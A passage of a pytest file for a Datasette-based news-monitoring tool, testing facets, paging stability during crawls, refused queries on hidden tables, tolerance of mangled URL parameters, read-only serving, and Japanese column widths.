                                            if row["policy"] is not None)
                assert facet == found, (typed, table)
                counted += sum(facet.values())
            status, page = get(f"{base}/stiwatch/{table}?{query}")
            assert status == 200 and f"{len(want)} row" in page, (typed, table)
    assert counted  # the classified English items among them


def test_canned_query_descriptions_show_no_markdown_backticks(analysts_site):
    """The canned queries' descriptions went to Datasette as plain text: their pages and the
    database page's tooltips showed `stiwatch search` and `timezone` with the backticks, where
    the tables' descriptions show code."""
    base, _ids = analysts_site
    status, index = get(f"{base}/stiwatch")
    assert status == 200
    for name, query in CANNED_QUERIES.items():
        status, page = get(f"{base}/stiwatch/{name}")
        description = page[page.index('<div class="metadata-description">'):]
        description = description[:description.index("</div>")]
        assert "`" not in description, name
        if "`" in query["description"]:
            assert "<code>" in description, name
        link = index[index.index(f'href="/stiwatch/{name}"'):]
        assert "`" not in link[:link.index(">")], name


def test_an_item_in_the_views_links_to_its_row_in_items(analysts_site):
    """items_tagged, where the database page says to start, showed an item's id as plain
    text: its body and its tags (the items row's "Links from other tables") were a typed
    URL away. The id (and duplicate_of) now link to the item's row, as the tags table's
    item_id does; JSON and CSV keep the plain numbers."""
    base, ids = analysts_site
    for view in ("items_tagged", "items_tagged_json"):
        status, page = get(f"{base}/stiwatch/{view}?_size=max")
        assert status == 200
        assert f'<a href="/stiwatch/items/{ids["jp-quantum"]}">{ids["jp-quantum"]}</a>' in page
        status, body = get(f"{base}/stiwatch/{view}.json?_shape=array&id={ids['jp-quantum']}")
        assert json.loads(body)[0]["id"] == ids["jp-quantum"]
    status, page = get(f"{base}/stiwatch/items_tagged?id={ids['eu-open-copy']}")
    assert f'<a href="/stiwatch/items/{ids["eu-open"]}">{ids["eu-open"]}</a>' in page
    status, page = get(f"{base}/stiwatch/items/{ids['jp-quantum']}")
    assert status == 200 and "Japan launches national quantum strategy" in page
    assert f"/stiwatch/tags?item_id={ids['jp-quantum']}" in page


def test_items_of_one_country_says_when_it_shows_only_the_newest_1000(db_path, tmp_path):
    """items_of_country ended in LIMIT 1000: of 5,316 items about Japan (a store of 50,000)
    the page, its JSON and its CSV held the newest 1,000 and said nothing of the others. Now
    the page says "more than 1,000 rows" (JSON: truncated), and the view its description
    names holds every one."""
    ids = analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        saved = store.save_items([
            {"url": f"https://mext-news.example/jp-{k}", "source_id": "mext-news",
             "title": f"Japan notice {k}", "published_at": "2026-11-20T00:00:00Z",
             "date_source": "page"} for k in range(1_005)])
        store.save_classifications(
            [(item_id, [{"facet": "country", "value": "JP", "score": 1.0,
                         "method": "gazetteer"}]) for item_id, _ in saved], "test-1")
    japan = 1_005 + len([ids["jp-quantum"], ids["jp-semis"]])
    with serving(db_path, tmp_path) as base:
        status, body = get(f"{base}/stiwatch/items_of_country.json?country=JP")
        data = json.loads(body)
        assert status == 200 and len(data["rows"]) == 1_000 and data["truncated"] is True
        status, page = get(f"{base}/stiwatch/items_of_country?country=JP")
        assert "returning more than 1,000 rows" in page
        assert "items_tagged_json?countries__arraycontains=JP" in page
        status, body = get(f"{base}/stiwatch/items_tagged_json.csv?countries__arraycontains=JP"
                           "&_stream=on")
        assert len(list(csv.DictReader(io.StringIO(body, newline="")))) == japan


def _with_october_notices(db_path, count, title):
    """The analysts' store and ``count`` more notices of October, the k-th titled title(k)."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        store.save_items([{"url": f"https://mext-news.example/p-{k}", "source_id": "mext-news",
                           "title": title(k), "date_source": "page",
                           "published_at": f"2026-10-{1 + k % 28:02d}T00:00:00Z"}
                          for k in range(count)])


def _crawl_stores_newest(db_path, name, title, count):
    """As a crawl would while an analyst reads: ``count`` items newer than any, the k-th at
    .../name-k titled "title k", through a connection of their own."""
    with db.open_store(db_path) as store:
        store.save_items([{"url": f"https://mext-news.example/{name}-{k}",
                           "source_id": "mext-news", "title": f"{title} {k}",
                           "date_source": "feed", "published_at": "2026-11-26T00:00:00Z"}
                          for k in range(count)])


def _view_ids(db_path, view):
    with db.open_store(db_path, readonly=True) as store:
        return sorted(row["id"] for row in store.query(f"SELECT id FROM {view}"))


def test_a_streamed_csv_of_a_view_written_during_a_crawl_has_each_item_once(db_path, tmp_path):
    """A view pages by offset: a crawl storing items while an analyst streamed items_tagged
    (newest first) pushed rows already written into the next page. On a store of 50,000,
    100 items stored during the download gave 50,100 rows, 50,000 distinct. The download
    now reads the view as it was when it began."""
    title = "Research council announces a programme for international collaboration. " * 60
    _with_october_notices(db_path, 2_000, lambda k: f"{k} {title}")
    with serving(db_path, tmp_path) as base:
        for view in ("items_tagged", "items_tagged_json"):
            expected = _view_ids(db_path, view)
            with urllib.request.urlopen(f"{base}/stiwatch/{view}.csv?_stream=on&_size=50"
                                        "&_sort_desc=published_at", timeout=60) as response:
                head = response.read(100_000)  # the first pages: megabytes still unread
                _crawl_stores_newest(db_path, f"{view}-new", "New", 200)
                text = (head + response.read()).decode()
            ids = [int(row["id"]) for row in csv.DictReader(io.StringIO(text, newline=""))]
            assert sorted(ids) == expected, view


def test_the_items_tagged_facets_count_no_comma_joined_combinations(db_path, tmp_path):
    """items_tagged faceted its areas column, whose values are comma-joined combinations:
    its "governance" counted the items with no other area (1,124 of the 3,426 in a store of
    50,000), read by an analyst as the number of governance items. Its default facets are
    one value per item now; items_tagged_json counts each label."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        saved = store.save_items([{"url": f"https://mext-news.example/two-{k}",
                                   "source_id": "mext-news", "title": f"Two areas {k}"}
                                  for k in range(3)])
        store.save_classifications(
            [(item_id, [{"facet": "area", "value": value, "score": 0.9, "method": "model"}
                        for value in ("governance", "open_science")]) for item_id, _ in saved],
            "test-1")
        governance = store.scalar(
            "SELECT count(*) FROM tags JOIN items ON items.id = item_id WHERE facet = 'area' "
            "AND value = 'governance' AND duplicate_of IS NULL")
    with serving(db_path, tmp_path) as base:
        data = json.loads(get(f"{base}/stiwatch/items_tagged.json?_size=0")[1])
        results = data["facet_results"]
        results = results.get("results", results)
        for column in ("areas", "domains", "countries", "regions"):
            assert column not in results, column
        for facet in results.values():
            counts = {row["value"]: row["count"] for row in facet["results"]}
            assert "governance" not in counts and "governance,open_science" not in counts
        data = json.loads(get(f"{base}/stiwatch/items_tagged_json.json?_size=0")[1])
        results = data["facet_results"]
        results = results.get("results", results)
        counts = {row["value"]: row["count"] for row in results["areas"]["results"]}
        assert counts["governance"] == governance >= 4


def test_index_pages_leave_no_error_in_the_log_for_the_hidden_tables(db_path, tmp_path,
                                                                    monkeypatch):
    """Datasette counts every table for its index pages; the refused counts of subscribers and
    deliveries were two "ERROR: conn=..., sql = 'select count(*) from [subscribers]'" lines
    in the journal at every visit. SQL a visitor types against them is logged as one line of
    ours at INFO, not Datasette's raw line with the connection's address."""
    with db.open_store(db_path):
        pass
    monkeypatch.setenv("STIWATCH_LOG_LEVEL", "INFO")
    with serving(db_path, tmp_path) as base:
        assert get(base + "/")[0] == 200
        assert get(base + "/" + db_path.stem)[0] == 200
        assert get(base + "/" + db_path.stem + "/subscribers")[0] == 403
        log = (tmp_path / "serve.log").read_text()
        assert "ERROR" not in log and "stiwatch.serve" not in log, log
        status, _ = get(base + "/" + db_path.stem + ".json?sql=select+count(*)+from+subscribers")
        assert status == 400
        time.sleep(0.2)
        [line] = [line for line in (tmp_path / "serve.log").read_text().splitlines()
                  if "subscribers" in line]
        assert line.endswith(" INFO stiwatch.serve: refused a query that reads a table not "
                             "served (not authorized): select count(*) from subscribers"), line


def test_a_refused_query_shows_its_reason_on_the_page_and_no_raw_line_on_stderr(db_path,
                                                                                tmp_path):
    """Datasette wrote "ERROR: conn=<sqlite3.Connection object at 0x...>, sql = ...,
    params = ...: ..." to stderr for every query SQLite refused or could not run: noise in
    the journal with a memory address in it. The visitor still sees why; at the default
    log_level (WARNING) stderr says nothing."""
    with db.open_store(db_path):
        pass
    with serving(db_path, tmp_path) as base:
        for sql in ("select * from subscribers", "select count(*) from deliveries",
                    "select * from no_such_table"):
            status, body = get(f"{base}/stiwatch?" + urllib.parse.urlencode({"sql": sql}))
            assert status == 400, sql
            assert ("prohibited" in body or "not authorized" in body
                    or "no such table: no_such_table" in body), body[:300]
        time.sleep(0.2)
        log = (tmp_path / "serve.log").read_text()
        assert log.splitlines() == [line for line in log.splitlines()
                                    if line.startswith("Serving ")], log


def _facets(base: str, path: str) -> dict:
    data = json.loads(get(f"{base}/stiwatch/{path}")[1])
    results = data["facet_results"]
    return results.get("results", results)


def test_the_views_tag_facets_count_from_tags_as_datasettes_own_facets_did(db_path, tmp_path):
    """The views compute each tag column per item, so Datasette's column and array facets
    of them ran a subquery per item: at 500,000 items each took seconds and the page said
    "These facets timed out". They are counted from tags now (the "tag" facet type): the
    counts, order and links are those Datasette's own facets give, unfiltered and filtered."""
    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        saved = store.save_items([{"url": f"https://mext-news.example/many-{k}",
                                   "source_id": "mext-news", "title": f"Many tags {k}"}
                                  for k in range(6)])
        store.save_classifications(
            [(item_id, [{"facet": "policy", "value": str(k % 2), "score": 0.8, "method": "model"},
                        {"facet": "area", "value": "governance", "score": 0.9, "method": "model"},
                        {"facet": "area", "value": "open_science", "score": 0.9, "method": "model"},
                        {"facet": "country", "value": "JP", "score": 0.9, "method": "gazetteer"},
                        {"facet": "region", "value": "east_asia", "score": 0.9,
                         "method": "gazetteer"}])
             for k, (item_id, _) in enumerate(saved)], "test-1")
        # A near-duplicate keeps its tags but is no row of items_tagged_json.
        store.conn.execute("UPDATE items SET duplicate_of = ? WHERE id = ?",
                           [saved[0][0], saved[1][0]])
        store.save_items([{"url": "https://mext-news.example/unclassified",
                           "source_id": "mext-news", "title": "Not yet classified"}])
    own = {"policy": "_facet=policy", "areas": "_facet_array=areas",
           "domains": "_facet_array=domains", "countries": "_facet_array=countries",
           "regions": "_facet_array=regions"}
    with serving(db_path, tmp_path) as base:
        for view, filters in (("items_tagged_json", ["", "&countries__arraycontains=JP",
                                                     "&policy=1&areas__arraycontains=governance",
                                                     "&areas__arraynotcontains=governance",
                                                     "&_facet_size=1"]),
                              ("items_tagged", ["", "&policy=0", "&source_id=mext-news"])):
            columns = ["policy"] if view == "items_tagged" else list(own)
            with db.open_store(db_path, readonly=True) as store:
                every = store.query(f"SELECT * FROM {view}")
            for where in filters:
                # The page's rows: those the filters select from the view's own columns.
                wanted = set()
                for row in every:
                    keep = True
                    for pair in filter(None, where.split("&")):
                        key, value = pair.split("=")
                        column, _, op = key.partition("__")
                        if op == "arraycontains":
                            keep &= value in json.loads(row[column])
                        elif op == "arraynotcontains":
                            keep &= value not in json.loads(row[column])
                        elif not column.startswith("_"):
                            keep &= row[column] == value
                    if keep:
                        wanted.add(row["id"])
                data = json.loads(get(f"{base}/stiwatch/{view}.json?_size=max&_nofacet=1"
                                      f"{where}")[1])
                assert {row[0] for row in data["rows"]} == wanted, (view, where)
                assert data["filtered_table_rows_count"] == len(wanted), (view, where)
                tagged = _facets(base, f"{view}.json?_size=0{where}")
                assert {n for n, f in tagged.items() if f["type"] != "column" or n == "policy"
                        } >= set(columns)
                for column in columns:
                    both = _facets(base, f"{view}.json?_size=0{where}&{own[column]}")
                    mine, theirs = both[column], both[column + "_2"]
                    assert mine["results"], (view, where, column)
                    for key in ("type", "results", "truncated"):
                        assert mine[key] == theirs[key], (view, where, column, key)
                    # The page without Datasette's own facet counts the same.
                    assert [(v["value"], v["count"], v["selected"])
                            for v in tagged[column]["results"]] == [
                        (v["value"], v["count"], v["selected"]) for v in theirs["results"]]
        # A tag facet asked for in the URL, and its cross to hide it again.
        both = _facets(base, "items_tagged.json?_size=0&_facet_tag=policy")
        assert "policy" in both
        asked = _facets(base, "items_tagged_json.json?_size=0&_facet_tag=countries")
        assert asked["countries_2"]["hideable"]
        assert asked["countries_2"]["results"] == asked["countries"]["results"]
        assert "_facet_tag" not in asked["countries_2"]["toggle_url"]
        status, page = get(f"{base}/stiwatch/items_tagged_json")
        assert status == 200 and "timed out" not in page
        assert "areas (array)" in page and "governance" in page


def test_paging_a_view_by_next_while_a_crawl_stores_items_shows_each_row_once(db_path,
                                                                             tmp_path):
    """A view pages by offset: items a crawl stored between two pages (the newest, on top)
    pushed rows of the first page onto the second, which showed them again (10 stored between
    the pages: the second page began with the first's last 10 rows). "Next" now reads the view
    as it was when the first page was shown; a new first page shows the new items."""
    _with_october_notices(db_path, 120, lambda k: f"Older notice {k}")
    with serving(db_path, tmp_path) as base:
        for view in ("items_tagged", "items_tagged_json"):
            expected = _view_ids(db_path, view)
            url, seen, page = f"{base}/stiwatch/{view}.json?_shape=objects", [], 0
            while url:
                data = json.loads(get(url)[1])
                seen += [row["id"] for row in data["rows"]]
                url = data.get("next_url")
                page += 1
                _crawl_stores_newest(db_path, f"{view}-{page}", f"New {page}", 10)
            assert len(seen) == len(set(seen)), view
            assert sorted(seen) == expected, view
            # In the browser: the "Next" link of the HTML page.
            status, first = get(f"{base}/stiwatch/{view}")
            newest = json.loads(get(f"{base}/stiwatch/{view}.json?_shape=objects")[1])["rows"]
            assert f"New {page} " in first  # a new first page shows the new items
            link = re.search(r'<a href="([^"]*_next=[^"]*)">Next page</a>', first)
            assert link, first[-3000:]
            with db.open_store(db_path) as store:
                store.save_items([{"url": f"https://mext-news.example/{view}-late-{k}",
                                   "source_id": "mext-news", "title": f"Late {k}",
                                   "date_source": "feed",
                                   "published_at": "2026-11-27T00:00:00Z"} for k in range(5)])
            second = get(html.unescape(link[1]) if link[1].startswith("http")
                         else base + html.unescape(link[1]))[1]
            shown = [row["id"] for row in newest[:50]]
            assert not any(f'/stiwatch/items/{item_id}"' in second for item_id in shown), view


def test_a_next_link_with_a_snapshot_that_is_no_number_pages_the_view_as_it_is(analysts_site):
    """A hand-edited or mangled ``_snapshot`` is ignored (the view as it is now), never a 500:
    "²" passed str.isdigit() but not int()."""
    base, _ids = analysts_site
    whole = json.loads(get(f"{base}/stiwatch/items_tagged_json.json?_size=max")[1])
    for given in ("abc", "-1", "", "99999999999999999999", "%C2%B2", "%D9%A3"):
        for extension in (".json", ""):
            status, page = get(f"{base}/stiwatch/items_tagged_json{extension}?_size=2"
                               f"&_next=2&_snapshot={given}")
            assert status == 200, (given, extension, page[:300])
        data = json.loads(get(f"{base}/stiwatch/items_tagged_json.json?_size=2&_next=2"
                              f"&_snapshot={given}")[1])
        assert data["filtered_table_rows_count"] == len(whole["rows"]), given
        assert [row[0] for row in data["rows"]] == [row[0] for row in whole["rows"][2:4]]


def test_a_next_link_that_is_no_offset_shows_a_views_first_page(analysts_site):
    """Datasette pages a view by an offset it reads with int(): a mangled ``_next`` ("abc",
    "²") answered 500 Internal Server Error. Such a link now shows the view's first page."""
    base, _ids = analysts_site
    first = json.loads(get(f"{base}/stiwatch/items_tagged.json?_size=2")[1])
    for given in ("abc", "%C2%B2", "-1", "1.5"):
        for extension in (".json", ""):
            status, page = get(f"{base}/stiwatch/items_tagged{extension}?_size=2"
                               f"&_next={given}")
            assert status == 200, (given, extension, page[:300])
        data = json.loads(get(f"{base}/stiwatch/items_tagged.json?_size=2&_next={given}")[1])
        assert data["rows"] == first["rows"], given


def test_a_page_filtered_by_policy_shows_its_policy_facet_when_facets_run_slow(db_path):
    """The policy facet of a page filtered by policy is that value and the page's count, yet
    it was counted from tags over the ids of every row the filter selects: at 500,000 items,
    on a loaded machine, `items_tagged?policy=1` said "These facets timed out: policy". The
    slowness is simulated by a facet time limit of 1 ms, which every facet query of these
    2,000 items exceeds (language and source_name still time out): the policy facet needs
    none."""
    from datasette.plugins import pm

    from stiwatch import datasette_plugin
    from stiwatch.commands.serve import datasette_of

    analysts_store.build(db_path)
    with db.open_store(db_path) as store:
        saved = store.save_items([{"url": f"https://mext-news.example/notice-{k}",
                                   "source_id": "mext-news", "title": f"Notice {k}",
                                   "language": "en"} for k in range(2000)])
        store.save_classifications(
            [(item_id, [{"facet": "policy", "value": str(k % 2), "score": 0.8,
                         "method": "model"}]) for k, (item_id, _) in enumerate(saved)], "test-1")
    ds = datasette_of(db_path, settings={"facet_time_limit_ms": 1})
    filters = ["policy=1", "policy=0&source_id=mext-news", "policy=1&policy=0"]

    async def pages():
        await ds.invoke_startup()
        answers = [(await ds.client.get(f"/stiwatch/{view}.json?{where}&_size=0")).json()
                   for view in ("items_tagged", "items_tagged_json") for where in filters]
        return answers, (await ds.client.get("/stiwatch/items_tagged?policy=1")).text

    try:
        answers, page = asyncio.run(pages())
    finally:
        pm.unregister(datasette_plugin)
    for data, value in zip(answers, ["1", "0", None] * 2):
        where = data["query"]["params"]
        assert "language" not in data["facet_results"], where  # the limit bites
        policy = data["facet_results"]["policy"]
        count = data["filtered_table_rows_count"]
        assert (count > 0) == bool(value), where
        assert [(v["value"], v["count"], v["selected"]) for v in policy["results"]] == (
            [(value, count, True)] if value else []), where
    found = re.search(r"These facets timed out: ([^<]*)<", page)
    assert found and "language" in found[1] and "policy" not in found[1], found
    policy_items = answers[0]["filtered_table_rows_count"]
    assert re.search(rf'id="facet-policy".*?<li>1 &middot; {policy_items:,} ', page, re.DOTALL)


# Datasette leaves its other facets' coroutines unawaited when one facet raises, as it does
# for its own bad ?_facet=: expected here, not a leak of ours.
@pytest.mark.filterwarnings("ignore:coroutine '.*' was never awaited:RuntimeWarning")
def test_a_tag_facet_of_no_tag_column_says_where_it_works(db_path):
    """`items_tagged?_facet_tag=countries` showed no facet and no error: items_tagged's
    countries are comma-joined, so no tag facet counts them there, and an analyst who tried
    it saw nothing. Like Datasette's `_facet=` of no column, it is a 400 page (JSON: its
    error) naming the views' tag columns and the URL where the facet works."""
    from datasette.plugins import pm

    from stiwatch import datasette_plugin
    from stiwatch.commands.serve import datasette_of

    analysts_store.build(db_path)
    ds = datasette_of(db_path)

    async def pages():
        await ds.invoke_startup()
        return [(await ds.client.get(path)) for path in (
            "/stiwatch/items_tagged.json?_size=0&_facet_tag=countries",
            "/stiwatch/items_tagged?_facet_tag=countries&language=en",
            "/stiwatch/items_tagged_json.json?_size=0&_facet_tag=title",
            "/stiwatch/items.json?_size=0&_facet_tag=policy",
            "/stiwatch/items_tagged.json?_size=0&_facet_tag=policy")]

    try:
        countries, page, title, items, policy = asyncio.run(pages())
    finally:
        pm.unregister(datasette_plugin)
    assert countries.status_code == 400
    error = countries.json()["error"]
    assert "_facet_tag=countries: items_tagged has no tag facet countries" in error
    assert ("(tag facets: policy on items_tagged; policy, areas, domains, countries, regions "
            "on items_tagged_json)") in error
    assert error.endswith("/stiwatch/items_tagged_json?_facet_tag=countries")
    assert page.status_code == 400
    assert "items_tagged_json?_facet_tag=countries" in html.unescape(page.text)
    for answer, where in ((title, None), (items, "/stiwatch/items_tagged?_facet_tag=policy")):
        assert answer.status_code == 400
        error = answer.json()["error"]
        assert "has no tag facet" in error
        assert (error.endswith(where) if where else "it works at" not in error), error
    assert policy.status_code == 200 and "policy" in policy.json()["facet_results"]


@AS_OTHER_USERS
def test_another_user_serves_a_store_in_a_folder_it_cannot_write():
    """docs/operations.md: a read-only store (a shared copy in a folder you cannot write to, a
    file of mode 0444, a read-only mount) can still be served. As a user who may not write the
    folder, with no -wal or -shm beside the store, Datasette's mode=ro connection needs a -shm
    it cannot make: serve printed "Serving ... at" and then a traceback ("attempt to write a
    readonly database") at the first page. A copy nobody may write is served as the unchanging
    file it is; a store its owner may still write (the crawls' own) is refused in one line,
    exit 2, since a reader that takes no lock would read it torn while a crawl writes it."""
    with shared_folder(0o755) as folder:
        store = folder / "stiwatch.db"
        analysts_store.build(store)
        nobody = as_user(NOBODY)
        env = {**os.environ, "HOME": str(folder)}

        def serve(port: int) -> subprocess.Popen:
            return subprocess.Popen(
                [*nobody, sys.executable, "-m", "stiwatch", "--db", str(store), "serve",
                 "--port", str(port)], env=env, cwd=folder, stdin=subprocess.DEVNULL,
                stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)

        store.chmod(0o644)  # the owner's live store
        process = serve(free_port())
        out, err = process.communicate(timeout=60)
        assert process.returncode == 2, err
        assert out == ""
        assert err.startswith(f"Error: {store}: this user may not write the store, and ")
        assert err.count("\n") == 1

        store.chmod(0o444)  # a copy nobody writes
        port = free_port()
        process = serve(port)
        try:
            base = f"http://127.0.0.1:{port}"
            deadline = time.monotonic() + 30
            while True:
                try:
                    status, _ = get(base + "/-/versions.json")
                    if status == 200:
                        break
                except OSError:
                    pass
                assert process.poll() is None, process.communicate()
                assert time.monotonic() < deadline
                time.sleep(0.2)
            status, body = get(base + "/stiwatch/items.json?_shape=array&_size=1")
            assert status == 200, body
            assert len(json.loads(body)) == 1
        finally:
            process.terminate()
            out, err = process.communicate(timeout=10)
        assert "Traceback" not in err, err
        assert sorted(p.name for p in folder.iterdir()) == ["stiwatch.db"]


@AS_OTHER_USERS
def test_an_analysts_serve_in_a_shared_folder_leaves_the_owners_crawls_writing():
    """An analyst (another user) serves the store in a folder both may write: Datasette's
    mode=ro connection made the -wal and -shm the analyst's, with the store's mode 0644, and
    the owner's crawls and classify failed, exit 2, "attempt to write a readonly database",
    while it ran and after it stopped (a reader cannot remove them). Refused in one line."""
    with shared_folder(0o777) as folder:
        store, env = owners_store(folder)

        def run_as(uid: int, *args: str, timeout: float = 60) -> subprocess.CompletedProcess:
            return stiwatch_as(uid, store, *args, env=env, timeout=timeout)

        analyst, owner = 65532, 65534
        try:
            result = run_as(analyst, "serve", "--port", str(free_port()), timeout=10)
        except subprocess.TimeoutExpired:
            pytest.fail("serve started where it makes files the owner cannot write")
        assert result.returncode == 2, result.stderr
        assert result.stderr.startswith(
            f"Error: {store}: this user may not write the store, and ")
        assert result.stderr.count("\n") == 1
        assert sorted(p.name for p in folder.iterdir()) == ["stiwatch.db"]
        result = run_as(owner, "classify")
        assert result.returncode == 0, result.stderr


def test_tags_any_keeps_the_items_with_any_of_its_tags_and_the_title_says_so(db_path):
    """A digest's link kept the items about any of a reader's countries or regions with a
    `_where`, which Datasette leaves out of the page's title: a page of US or east_asia stories
    read as every story of the area. `_tags_any` selects them and the title states it."""
    from datasette.plugins import pm

    from stiwatch import datasette_plugin
    from stiwatch.commands.serve import datasette_of

    ids = analysts_store.build(db_path)
    ds = datasette_of(db_path)

    async def pages():
        await ds.invoke_startup()
        return [(await ds.client.get(path)) for path in (
            "/stiwatch/items_tagged_json.json?_shape=array&_tags_any=countries:EU,regions:"
            "north_america&policy=1",
            "/stiwatch/items_tagged_json?_tags_any=countries:EU,regions:north_america"
            "&_tags_any=areas:governance,areas:open_science&policy=1",
            "/stiwatch/items_tagged_json.json?_shape=array&_tags_any=title:x")]

    try:
        rows, page, unknown = asyncio.run(pages())
    finally:
        pm.unregister(datasette_plugin)
    assert rows.status_code == 200, rows.text
    # eu-open-copy is a near-duplicate, not in the view; us-discovery is not policy
    assert {row["id"] for row in rows.json()} == {ids["us-security"], ids["eu-open"],
                                                  ids["eu-ai"]}
    assert page.status_code == 200
    [title] = re.findall(r"<h3>\s*([^<]*rows?[^<]*)</h3>", page.text)
    assert " ".join(html.unescape(title).split()) == (
        '2 rows where (countries contains "EU" or regions contains "north_america"), areas '
        'contains any of "governance", "open_science" and policy = 1 sorted by published_at '
        'descending')
    assert unknown.status_code == 200 and unknown.json() == []


@pytest.mark.browser
def test_japanese_titles_and_bodies_get_columns_wide_enough_to_read(db_path, tmp_path,
                                                                     chromium_page):
    """Japanese text may break between any two characters, so Datasette's tables gave its
    columns their one-character minimum: a ministry's title and body came out three to five
    characters wide, the item's page 3,800 pixels tall. They get a reading width."""
    analysts_store.build(db_path)
    body = "総合科学技術・イノベーション会議は研究セキュリティの確保に関するガイドラインを決定した。" * 12
    with db.open_store(db_path) as store:
        [(item_id, _)] = store.save_items([{
            "url": "https://msti.example/houdou/guideline", "source_id": "mext-news",
            "title": "研究セキュリティ確保のためのガイドラインを決定 大学・研究機関に体制整備を要請",
            "summary": body[:120], "body": body, "language": "ja", "date_source": "feed",
            "published_at": analysts_store.ago(1)}])
    with serving(db_path, tmp_path) as base:
        page = chromium_page
        page.set_viewport_size({"width": 1280, "height": 900})
        for path in (f"/stiwatch/items/{item_id}", "/stiwatch/items_tagged_json?_search=研究",
                     "/stiwatch/items?_search=研究"):
            page.goto(base + path)
            widths = page.evaluate("""[...document.querySelectorAll(
                'td.col-title, td.col-summary, td.col-body')].filter(
                td => /[\\u3040-\\u30ff\\u4e00-\\u9fff]/.test(td.textContent)).map(
                td => td.getBoundingClientRect().width)""")
            assert widths, path
            # 16 em: some 15 Japanese characters a line
            assert min(widths) >= 200, (path, widths)
